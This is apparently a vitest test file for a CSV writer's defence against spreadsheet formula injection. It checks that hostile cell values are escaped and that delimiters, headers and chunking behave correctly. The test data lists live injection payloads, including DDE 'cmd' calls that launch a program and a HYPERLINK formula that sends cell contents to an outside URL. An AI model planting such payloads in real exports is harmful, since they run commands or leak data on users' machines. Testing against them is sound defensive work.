import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { disarm } from '../../src/write/cell.js';
import { withColumns } from '../../src/write/choose-columns.js';
import { csvChunks } from '../../src/write/csv.js';
import { everything } from '../../src/write/lookup.js';
import { TABLES } from '../../src/write/tables/index.js';
import { joined, RESULT } from './fixture.js';

const claims = (options = {}) => joined(csvChunks(TABLES.claims, everything(RESULT), options));

/** With one claim whose words are `quote`. */
const withQuote = (quote: string) => ({ ...RESULT, claims: [{ ...RESULT.claims[0]!, quote }] });

describe('a cell that a spreadsheet would run', () => {
  const FORMULAS = [
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"press")',
    '+1+1',
    '+44 20 7946 0000',
    '-1-1',
    "-2+3+cmd|' /C calc'!A0",
    '- he was not fed',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '   \t =1+1',
    '"=1+1',
    '"=1+1"',
    "'=1+1",
    '“=1+1”',
    '‘=1+1',
    '«=1+1»',
    '" =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\u0000=1+1',
    '\u3000=1+1',
    '＝1+1',
    '＋1+1',
    '－1-1',
    '＠SUM(1)',
    '\tleft',
    '\rleft',
    '=',
    '-',
    '--',
    '+-=@',
    '=\u00a01+1',
    '`=1+1',
    '‹=1›',
    '"\'=1',
  ];

  it.each(FORMULAS)('is text: %j', (hostile) => {
    const cell = disarm(hostile);
    expect(cell.startsWith("'")).toBe(true);
    const [, row] = parse(joined(csvChunks(TABLES.claims, everything(withQuote(hostile))))) as string[][];
    expect(row).toContain(cell);
    expect(cell.replaceAll("'", '')).toBe(hostile.replaceAll("'", ''));
  });

  it.each([
    ['after a semicolon, for a reader who splits there', 'said; =1+1; so', ',', "said; '=1+1; so"],
    ['after a line break, for a reader who sees no quotation marks', 'said\n@SUM(1)', ',', "said\n'@SUM(1)"],
    ['after a comma, where that is not the delimiter', 'said,+1+1', ';', "said,'+1+1"],
    ['but not after a comma where that is the delimiter', 'call +1, +2', ',', 'call +1, +2'],
    ['but not where nothing can be worked out', 'they said:\n- no food\n- no water; - no care', ',', null],
  ])('is text %s', (_where, text, delimiter, disarmed) => {
    expect(disarm(text, delimiter)).toBe(disarmed ?? text);
  });

  it.each([
    ['an ordinary sentence', 'He was not fed.'],
    ['a formula further on', 'that is: =1+1'],
    ['a quotation', '“We deny it”'],
    ['a negative number', '-46'],
    ['a rise', '+5.5%'],
    ['a number with commas', '-1,200'],
    ['nothing', ''],
    ['an accent', 'Ñuñoa'],
  ])('is not %s', (_what, harmless) => {
    expect(disarm(harmless)).toBe(harmless);
  });

  it('is never left to run, whatever its text', () => {
    const hostile = fc
      .tuple(
        fc.stringMatching(/^[ \t"'“\u00a0\u200b]{0,3}$/),
        fc.constantFrom('=', '+', '-', '@', '\t=', '\r='),
        fc.string(),
      )
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(hostile, (s) => {
        expect(disarm(s)).toMatch(/^(?:'|[+-]?\d[\d.,]*%?$)/);
      }),
    );
  });
});

describe('CSV', () => {
  it('gives back every cell to another reader, line breaks, quotes, accents and all', () => {
    const rows = parse(claims(), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.quote)).toEqual(RESULT.claims.map((c) => c.quote));
    expect(rows[1]).toMatchObject({
      asserted_by_name: 'Zoë Åkermann; Bramblecare Ltd',
      categories: 'food_water',
      confidence: '0.7',
      stance: 'denies_act',
    });
  });

  it('gives back any words', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', minLength: 1 }), (quote) => {
        const text = joined(csvChunks(TABLES.claims, everything(withQuote(quote))));
        const rows = parse(text, { columns: true }) as Record<string, string>[];
        expect(rows[0]!.quote).toBe(disarm(quote));
      }),
    );
  });

  it('keeps numbers as numbers, also below zero', () => {
    const cold = { ...RESULT, quantities: [{ ...RESULT.quantities[0]!, value: -46.5, text: '-46.5' }] };
    const [, row] = joined(csvChunks(TABLES.quantities, everything(cold))).split('\n');
    expect(row).toMatch(/^-46\.5,-46\.5,/);
  });

  it('quotes a cell that another delimiter would split', () => {
    const text = joined(csvChunks(TABLES.claims, everything(withQuote('first;then'))));
    expect(text).toContain('"first;then"');
    expect(joined(csvChunks(TABLES.claims, everything(withQuote('first\tthen'))))).toContain('"first\tthen"');
  });

  it('begins with a byte-order mark only where one is asked for', () => {
    expect(claims().startsWith('title,')).toBe(true);
    expect(claims({ bom: true }).startsWith('\uFEFFtitle,')).toBe(true);
  });

  it.each([';', '\t', '|'])('takes %j between cells', (delimiter) => {
    const rows = parse(claims({ delimiter }), { columns: true, delimiter }) as Record<string, string>[];
    expect(rows.map((r) => r.quote)).toEqual(RESULT.claims.map((c) => c.quote));
  });

  it('has no header where none is wanted', () => {
    expect(claims({ header: false })).toBe(claims().slice(claims().indexOf('\n') + 1));
  });

  it('leaves text as it is where a program reads it', () => {
    const text = joined(csvChunks(TABLES.claims, everything(withQuote('=1+1')), { raw: true }));
    expect((parse(text, { columns: true }) as Record<string, string>[])[0]!.quote).toBe('=1+1');
  });

  it('has the columns that are asked for, in their order', () => {
    const table = withColumns(TABLES.claims, ['quote', 'kind', 'quote', 'no such column']);
    const rows = parse(joined(csvChunks(table, everything(RESULT)))) as string[][];
    expect(rows.slice(0, 3)).toEqual([
      ['quote', 'kind'],
      [RESULT.claims[0]!.quote, 'allegation'],
      [RESULT.claims[1]!.quote, 'denial'],
    ]);
  });

  it('writes the header alone where there is nothing', () => {
    const none = joined(csvChunks(TABLES.claims, everything({ ...RESULT, claims: [] })));
    expect(none.split('\n')).toEqual([expect.stringMatching(/^title,source,/), '']);
  });

  it('comes in pieces', () => {
    const many = { ...RESULT, claims: Array.from({ length: 2000 }, () => RESULT.claims[0]!) };
    expect([...csvChunks(TABLES.claims, everything(many))].length).toBeGreaterThan(4);
  });
});
